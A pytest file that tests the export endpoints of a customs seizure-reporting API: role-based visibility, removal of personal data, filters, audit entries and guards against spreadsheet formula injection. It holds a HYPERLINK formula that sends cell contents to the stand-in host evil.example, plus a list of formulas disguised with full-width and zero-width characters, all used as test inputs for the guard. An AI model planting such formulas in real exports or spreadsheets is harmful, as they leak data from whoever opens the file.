"""Exports of cases and seizures: formats, filters, visibility, personal data, formula injection, audit."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from stopnet.db.models import AuditEntry, CaseStatus
from stopnet.db.models.rightsholders import Brand, BrandAlias, BrandStatus
from stopnet.reports.exports import csv_value, xlsx_value
from tests.conftest import World, case_payload

URL = "/api/v1/operations/TEST-OP/exports"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _post(client: TestClient, who: str, world: World, **overrides: object) -> dict:
    r = client.post(
        "/api/v1/operations/TEST-OP/cases", json=case_payload(**overrides), headers=world[who].headers
    )
    assert r.status_code == 201, r.text
    return r.json()


@pytest.fixture
def cases(client: TestClient, world: World, session_factory: sessionmaker[Session]) -> dict[str, dict]:
    """FR: a shared case with a formula in its brand and notes, and a case kept to itself; DE: a shared case;
    KE: a draft. Brand X (approved, held by BRAND-X) is named in FR's shared case and DE's case."""
    out = {
        "fr_shared": _post(
            client,
            "fr_officer",
            world,
            reference="FR-1",
            notes="+33 1 23 45 67 89 call the consignee",
            seizures=[
                {"commodity_code": "MED-WEIGHT", "brand": "Brand X", "pieces": 120, "weight_kg": "3.250"},
                {"commodity_code": "IPR-FOOT", "brand": EVIL, "description": "@SUM(1+1)", "pieces": 12},
            ],
        ),
        "fr_own": _post(
            client,
            "fr_officer",
            world,
            reference="FR-SECRET",
            visibility="own",
            consignee_name="Secret Person",
            seizures=[{"commodity_code": "MED-WEIGHT", "brand": "Brand X", "pieces": 5, "weight_kg": "0.5"}],
        ),
        "de_shared": _post(
            client,
            "de_officer",
            world,
            reference="DE-1",
            detected_on="2025-05-20",
            channel="POSTAL",
            consignee_name="Hans Muster",
            visibility="partners",
            seizures=[{"commodity_code": "IPR-CLOTH", "brand": "brand  x", "pieces": 300, "weight_kg": "90"}],
        ),
        "ke_draft": _post(client, "ke_officer", world, reference="KE-DRAFT", submit=False),
    }
    with session_factory() as s:
        brand = Brand(
            owner_org_id=world.orgs["BRAND-X"].id, name="Brand X", status=BrandStatus.APPROVED, description=""
        )
        brand.aliases.append(BrandAlias(alias="Brand X", normalised="brandx"))
        s.add(brand)
        s.commit()
    return out


def _csv(r) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_case_export_csv_holds_what_the_exporter_may_read(
    client: TestClient, world: World, cases: dict
) -> None:
    h = world["fr_officer"].headers
    fr = _csv(client.get(f"{URL}/cases.csv", headers=h))
    assert {row["reference"] for row in fr} == {"FR-1", "FR-SECRET", "DE-1"}
    by_ref = {row["reference"]: row for row in fr}
    assert "consignee_name" not in fr[0]  # no export carries personal data, not even the reporter's own
    assert "Secret Person" not in client.get(f"{URL}/cases.json", headers=world["fr_officer"].headers).text
    assert by_ref["FR-1"]["total_pieces"] == "132" and by_ref["FR-1"]["seizures"] == "2"
    assert by_ref["FR-1"]["notes"] == "'+33 1 23 45 67 89 call the consignee"  # guarded
    fr1 = by_ref["FR-1"]  # every seizure of the case added up, text of its goods and brands
    assert (fr1["total_weight_kg"], fr1["commodity_codes"], fr1["brands"]) == (
        "3.250",
        "IPR-FOOT MED-WEIGHT",
        "'" + EVIL + "; Brand X",
    )
    assert (fr1["reporting_org"], fr1["status"], fr1["visibility"]) == ("FR-CUS", "submitted", "participants")
    assert (fr1["detected_on"], fr1["is_ecommerce"], fr1["validated_at"]) == ("2025-05-14", "true", "")
    assert by_ref["DE-1"]["total_weight_kg"] == "90.000" and by_ref["DE-1"]["seizures"] == "1"
    medicines = _csv(client.get(f"{URL}/cases.csv", params={"commodity_group": "medicines"}, headers=h))
    assert {r["reference"]: r["seizures"] for r in medicines} == {"FR-1": "2", "FR-SECRET": "1"}
    de = _csv(client.get(f"{URL}/cases.csv", headers=world["de_officer"].headers))
    assert {row["reference"] for row in de} == {"FR-1", "DE-1"}  # FR's own case never, KE's draft never
    partner = _csv(client.get(f"{URL}/cases.csv", headers=world["partner"].headers))
    assert [row["reference"] for row in partner] == ["DE-1"]
    assert "Hans Muster" not in str(partner)
    coordinator = _csv(client.get(f"{URL}/cases.csv", headers=world["coordinator"].headers))
    assert {row["reference"] for row in coordinator} == {"FR-1", "DE-1"}


def test_seizure_export_in_three_formats_with_the_formula_guard(
    client: TestClient, world: World, cases: dict
) -> None:
    h = world["de_officer"].headers
    rows = _csv(client.get(f"{URL}/seizures.csv", headers=h))
    assert [(r["case_reference"], r["commodity_code"]) for r in rows] == [
        ("FR-1", "MED-WEIGHT"),
        ("FR-1", "IPR-FOOT"),
        ("DE-1", "IPR-CLOTH"),
    ]
    evil = rows[1]
    assert evil["brand"] == "'" + EVIL
    assert evil["description"] == "'@SUM(1+1)"
    assert rows[0]["pieces"] == "120" and rows[0]["weight_kg"] == "3.250"

    r = client.get(f"{URL}/seizures.xlsx", headers=h)
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb["seizures"]
    header = [c.value for c in ws[1]]
    values = [dict(zip(header, [c.value for c in row], strict=True)) for row in ws.iter_rows(min_row=2)]
    assert len(values) == 3
    assert values[1]["brand"] == "'" + EVIL
    cell = ws.cell(row=3, column=header.index("brand") + 1)
    assert cell.data_type == "s"  # text, never a formula
    assert values[0]["pieces"] == 120 and isinstance(values[0]["pieces"], int)  # numbers stay numbers
    assert values[0]["weight_kg"] == pytest.approx(3.25)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    r = client.get(f"{URL}/seizures.json", headers=h)
    assert r.status_code == 200
    body = json.loads(r.content)
    assert body["export"] == "seizures" and body["rows"] == 3 and len(body["items"]) == 3
    assert body["items"][1]["brand"] == EVIL  # JSON is data, not a spreadsheet: unchanged
    assert body["items"][0]["pieces"] == 120


def test_filters_apply_to_exports(client: TestClient, world: World, cases: dict) -> None:
    h = world["fr_officer"].headers
    rows = _csv(client.get(f"{URL}/cases.csv", params={"date_from": "2025-05-15"}, headers=h))
    assert [r["reference"] for r in rows] == ["DE-1"]
    rows = _csv(client.get(f"{URL}/cases.csv", params={"region": "EUR", "channel": "EXPRESS"}, headers=h))
    assert {r["reference"] for r in rows} == {"FR-1", "FR-SECRET"}
    rows = _csv(client.get(f"{URL}/seizures.csv", params={"commodity_group": "medicines"}, headers=h))
    assert [(r["case_reference"], r["commodity_code"]) for r in rows] == [
        ("FR-1", "MED-WEIGHT"),
        ("FR-SECRET", "MED-WEIGHT"),
    ]  # a goods filter keeps those goods only
    rows = _csv(client.get(f"{URL}/cases.csv", params={"country": "DE"}, headers=h))
    assert [r["reference"] for r in rows] == ["DE-1"]
    rows = _csv(client.get(f"{URL}/cases.csv", params={"status": "validated"}, headers=h))
    assert rows == []
    body = client.get(f"{URL}/cases.json", params={"commodity_code": "IPR-CLOTH"}, headers=h).json()
    assert body["filters"] == {"commodity_code": "IPR-CLOTH"} and [i["reference"] for i in body["items"]] == [
        "DE-1"
    ]
    assert client.get(f"{URL}/cases.pdf", headers=h).status_code == 422


def test_rights_holder_exports_only_its_brands_seizures(
    client: TestClient, world: World, cases: dict
) -> None:
    h = world["rights_holder"].headers
    r = client.get(f"{URL}/cases.csv", headers=h)
    assert r.status_code == 403 and "rights holders" in r.text
    rows = _csv(client.get(f"{URL}/seizures.csv", headers=h))
    # FR's shared case and DE's case name Brand X; FR's own case never appears
    assert sorted((r["reported_brand"], r["pieces"]) for r in rows) == [
        ("Brand X", "120"),
        ("brand  x", "300"),
    ]
    assert set(rows[0]) == {
        "operation", "brand", "reported_brand", "commodity_code", "commodity_group", "pieces", "weight_kg",
        "detected_on", "country",
    }  # fmt: skip
    text = client.get(f"{URL}/seizures.json", headers=h).text
    for secret in ("FR-SECRET", "Secret Person", "Hans Muster", "Jean Dupont", "FR-1", "notes", "consignee"):
        assert secret not in text
    assert client.get(f"{URL}/seizures.csv", params={"q": "call"}, headers=h).status_code == 422
    # a goods filter keeps the seizures of those goods (it once failed with a 500 here)
    rows = _csv(client.get(f"{URL}/seizures.csv", params={"commodity_group": "medicines"}, headers=h))
    assert [(r["reported_brand"], r["commodity_code"], r["pieces"]) for r in rows] == [
        ("Brand X", "MED-WEIGHT", "120")
    ]
    rows = _csv(client.get(f"{URL}/seizures.csv", params={"commodity_code": "IPR-CLOTH"}, headers=h))
    assert [(r["reported_brand"], r["pieces"]) for r in rows] == [("brand  x", "300")]


def test_exports_are_audited_and_need_the_export_scope(
    client: TestClient, world: World, cases: dict, db: Session
) -> None:
    h = world["fr_officer"].headers  # the world's tokens carry every scope of their role
    r = client.get(f"{URL}/seizures.xlsx", params={"channel": "EXPRESS"}, headers=h)
    assert r.status_code == 200 and r.headers["x-export-rows"] == "3"
    entry = db.scalars(select(AuditEntry).where(AuditEntry.action == "export.seizures")).one()
    assert entry.object_id == "TEST-OP"
    assert entry.details["filters"] == {"channel": "EXPRESS"}
    assert entry.details["rows"] == 3 and entry.details["format"] == "xlsx"
    assert client.get(f"{URL}/cases.csv", headers=world["xx_officer"].headers).status_code == 404

    from stopnet.access.service import create_token
    from stopnet.db.models import Organisation, Role

    org = db.scalars(select(Organisation).where(Organisation.code == "FR-CUS")).one()
    _, raw = create_token(db, None, org, "read only", Role.OFFICER, frozenset({"cases:read"}))
    db.commit()
    r = client.get(f"{URL}/cases.csv", headers={"Authorization": f"Bearer {raw}"})
    assert r.status_code == 403 and "export" in r.text


HIDDEN_FORMULAS = (
    '＝HYPERLINK("http://evil.example")',
    "\u200b=1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u2060\ufeff@x",
)


def test_full_width_and_hidden_formula_signs_are_guarded_in_csv_and_xlsx(
    client: TestClient, world: World
) -> None:
    for i, text in enumerate(HIDDEN_FORMULAS):
        _post(
            client,
            "fr_officer",
            world,
            reference=f"FW-{i}",
            notes=text,
            seizures=[{"commodity_code": "IPR-FOOT", "brand": text, "description": text, "pieces": 1}],
        )
    h = world["fr_officer"].headers
    cases = {r["reference"]: r for r in _csv(client.get(f"{URL}/cases.csv", headers=h))}
    seizures = {r["case_reference"]: r for r in _csv(client.get(f"{URL}/seizures.csv", headers=h))}
    r = client.get(f"{URL}/seizures.xlsx", headers=h)
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content))["seizures"]
    header = [c.value for c in ws[1]]
    at = header.index("case_reference")
    cells = {row[at].value: row for row in ws.iter_rows(min_row=2)}
    for i, text in enumerate(HIDDEN_FORMULAS):
        ref = f"FW-{i}"
        assert cases[ref]["notes"] == "'" + text, (text, cases[ref]["notes"])
        assert seizures[ref]["brand"] == seizures[ref]["description"] == "'" + text
        brand = cells[ref][header.index("brand")]
        assert brand.value == "'" + text and brand.data_type == "s"


def test_cell_guards() -> None:
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", *HIDDEN_FORMULAS):
        assert csv_value(text) == "'" + text
        assert xlsx_value(text) == "'" + text
    assert csv_value(-5) == "-5"  # a number is not text
    assert xlsx_value(-5) == -5
    assert xlsx_value("a\x00b") == "ab"
    assert csv_value(True) == "true"


def test_draft_of_the_reporter_is_exported_to_it_only(client: TestClient, world: World, cases: dict) -> None:
    ke = _csv(client.get(f"{URL}/cases.csv", headers=world["ke_officer"].headers))
    assert {r["reference"]: r["status"] for r in ke}["KE-DRAFT"] == CaseStatus.DRAFT.value
    assert "KE-DRAFT" not in {
        r["reference"] for r in _csv(client.get(f"{URL}/cases.csv", headers=world["admin"].headers))
    }
